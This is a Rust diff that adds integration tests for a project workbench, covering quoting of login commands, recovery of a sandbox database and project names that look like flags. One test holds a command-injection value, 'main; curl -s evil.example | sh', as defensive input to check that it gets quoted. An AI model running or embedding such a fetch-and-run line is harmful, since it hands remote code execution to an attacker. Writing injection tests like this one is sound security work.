@@ -1,10 +1,12 @@
 //! Where jobs and runs are: practice is our own sandbox alone, and nothing leads out of the project.
 
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::Path;
 
 use serde_json::{Value, json};
 
 use super::RunningWorkbench;
+use super::commands::pasted;
 use super::job_bench::{project, real_project};
 use crate::command_line::Desk;
 
@@ -73,6 +75,60 @@ fn only_profiles_of_the_settings_are_offered_and_taken() {
     assert!(message(&refused).contains("no profile \"shpo\"; they have: shop"), "{refused}");
     let chosen = bench.put("target", json!({"kind": "account", "profile": "shop"})).json();
     assert_eq!(chosen["target"]["profile"], "shop");
+}
+
+/// A project may come from anybody; what the page shows is pasted into a shell.
+#[test]
+fn a_login_line_is_quoted() {
+    let text = |profile: &str| format!("version = 1\n[target]\nprofile = \"{profile}\"\n");
+    let hostile = "main; curl -s evil.example | sh";
+    let bench = RunningWorkbench::open(project(1).file("deskferry-project/project.toml", text(hostile)), "");
+    let target = bench.get("api/target").json();
+    assert_eq!(target["login"], "deskferry login --profile 'main; curl -s evil.example | sh'");
+    std::fs::write(bench.folder().join("project.toml"), text("main\\n")).unwrap();
+    let refused = bench.get("api/target").refused(422);
+    assert!(message(&refused).contains("can't be the name of a profile"), "{refused}");
+}
+
+/// The practice help desk is damaged, say: a new one is a click away, and the former one stays.
+#[test]
+fn practice_begins_anew_with_an_empty_sandbox() {
+    let bench = RunningWorkbench::open(project(2), "");
+    let plan = bench.plan();
+    bench.done(json!({"kind": "write", "plan": plan["id"]}));
+    let practice = bench.folder().join("practice.db");
+    assert_eq!(std::fs::metadata(&practice).unwrap().permissions().mode() & 0o777, 0o600);
+    std::fs::write(&practice, "x".repeat(5000)).unwrap();
+    let broken = bench.ended(&bench.begin(json!({"kind": "plan", "file": bench.file_id()})));
+    assert_eq!(broken["state"], "failed", "{broken:#}");
+    bench.post("target/practice", json!({})).json();
+    let plan = bench.plan();
+    assert_eq!(bench.run_of(&plan)["report"]["counts"]["planned_inserts"], 2);
+    let kept =
+        bench.names("").into_iter().find(|name| name.starts_with("practice.2") && name.ends_with("Z.db"));
+    assert_eq!(std::fs::read(bench.folder().join(kept.unwrap())).unwrap().len(), 5000);
+    bench.put("target", json!({"kind": "account"})).json();
+    assert!(message(&bench.post("target/practice", json!({})).refused(422)).contains("a real account"));
+}
+
+/// No command takes it for a flag.
+#[test]
+fn a_project_may_have_the_name_of_a_flag() {
+    let ferry = project(2);
+    std::fs::rename(ferry.path().join("deskferry-project"), ferry.path().join("-p")).unwrap();
+    let bench = RunningWorkbench::open(ferry, "--project=-p");
+    let plan = bench.plan();
+    let written = bench.done(json!({"kind": "write", "plan": plan["id"]}));
+    bench.done(json!({"kind": "verify", "run": written["run"]}));
+    bench.done(json!({"kind": "backup"}));
+    let found =
+        bench.post("backups/history", json!({"field": "email", "value": "person1@example.org"})).json();
+    assert_eq!(found["history"]["customers"].as_array().unwrap().len(), 1);
+    let run = bench.run_of(&written)["run"].clone();
+    let undo = run["next"].as_array().unwrap().iter().find(|step| step["kind"] == "undo").unwrap();
+    let (status, said) = pasted(&bench, &format!("{} --yes", undo["command"].as_str().unwrap()));
+    assert_eq!(status, 0, "{said}");
+    assert_eq!(bench.run_of(&written)["run"]["state"], "undone");
 }
 
 /// A project may come from anybody.
